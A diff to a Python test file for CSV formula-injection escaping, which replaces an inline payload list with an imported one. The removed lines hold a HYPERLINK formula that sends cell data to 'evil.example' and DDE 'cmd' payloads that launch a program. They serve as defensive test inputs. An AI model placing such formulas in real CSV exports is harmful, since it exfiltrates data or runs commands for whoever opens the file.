@@ -13,14 +13,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from logic.csv_cells import FORMULA_STARTS, escape_cell, write_csv
+from strategies import FORMULA_PAYLOADS
 
 PAYLOADS = [
-    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3",
-    "\t=1+1",
-    "\r=1+1",
+    *FORMULA_PAYLOADS,
     "=1,2;3",  # the delimiters inside stay inside the quoted cell
     '=A1&"x"',
 ]
